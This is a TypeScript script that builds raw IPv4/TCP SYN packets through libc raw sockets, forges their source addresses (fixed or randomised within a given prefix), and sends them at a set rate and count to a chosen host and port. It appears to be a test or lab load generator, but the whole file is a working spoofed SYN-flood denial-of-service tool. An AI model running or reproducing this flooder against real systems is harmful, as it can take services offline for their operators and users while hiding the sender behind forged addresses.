/**
 * Sends TCP SYNs from addresses that it makes up: `flood-process.ts DESTINATION PORT COUNT PER-SECOND SOURCE...`, where a
 * source is an address, or the first two octets of many (`10.66`). Says `ready`, and at the end how many it has sent.
 */
import { randomInt } from 'node:crypto';
import * as koffi from 'koffi';

const AF_INET = 2;
const SOCK_RAW = 3;
const IPPROTO_RAW = 255;
const IPPROTO_TCP = 6;
const SYN = 0x02;
const HEADERS = 40;
const BURST_MS = 5;

const [destination = '', port = '', count = '', perSecond = '', source = ''] =
  process.argv.slice(2);

const libc = koffi.load(null);
const socket = libc.func('int socket(int domain, int type, int protocol)');
const sendto = libc.func(
  'long sendto(int fd, void *data, size_t bytes, int flags, void *address, uint32 length)',
);

const octets = (address: string): number[] => address.split('.').map(Number);

/** RFC 1071, of 16-bit words from an offset on, and what else is in the sum. */
function checksum(data: Buffer, from: number, more = 0): number {
  let sum = more;
  for (let at = from; at < data.length; at += 2) sum += data.readUInt16BE(at);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

const packet = Buffer.from(new ArrayBuffer(HEADERS));
packet[0] = 0x45;
packet.writeUInt16BE(HEADERS, 2);
packet[8] = 64;
packet[9] = IPPROTO_TCP;
packet.set(octets(destination), 16);
packet.writeUInt16BE(Number(port), 22);
packet[32] = 0x50;
packet[33] = SYN;
packet.writeUInt16BE(65_535, 34);

function make(index: number): void {
  const known = octets(source);
  packet.set(known.length === 4 ? known : [...known, randomInt(256), randomInt(1, 255)], 12);
  // As many ports as there are before any comes again.
  packet.writeUInt16BE(1_024 + (index % 64_512), 20);
  packet.writeUInt32BE(randomInt(2 ** 32), 24);
  packet.writeUInt16BE(0, 36);
  // The pseudo header: the addresses, the protocol, the length of what follows.
  packet.writeUInt16BE(checksum(packet, 12, IPPROTO_TCP + 20), 36);
}

const address = Buffer.from(new ArrayBuffer(16));
address.writeUInt16LE(AF_INET, 0);
address.set(octets(destination), 4);

const fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW) as number;
if (fd < 0) throw new Error(`socket: errno ${koffi.errno()}`);
process.stdout.write('ready\n');

const burst = Math.ceil((Number(perSecond) * BURST_MS) / 1_000);
let sent = 0;
while (sent < Number(count)) {
  const end = Math.min(sent + burst, Number(count));
  for (; sent < end; sent += 1) {
    make(sent);
    const bytes = sendto(fd, packet, HEADERS, 0, address, address.length) as number;
    if (bytes !== HEADERS) throw new Error(`sendto: errno ${koffi.errno()}`);
  }
  await new Promise((resolve) => setTimeout(resolve, BURST_MS));
}
process.stdout.write(`${sent}\n`);
